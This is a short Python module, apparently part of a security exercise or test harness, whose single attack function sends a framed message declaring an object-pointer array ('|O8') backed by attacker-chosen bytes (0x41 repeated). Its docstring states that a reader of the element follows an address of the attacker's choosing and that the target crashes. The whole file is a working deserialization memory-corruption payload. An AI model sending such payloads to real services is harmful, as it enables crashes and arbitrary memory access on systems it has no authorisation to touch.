"""Send pointers as an array.

Whoever looks at an element follows an address of the learner's choice.

Held by: frames
Ends: crashed
"""

from wire import framed, write


def attack(facts):
    write(framed(b'{"kind":"r","data":{},"arrays":[["a","|O8",[1],"C"]]}', b"\x41" * 8))
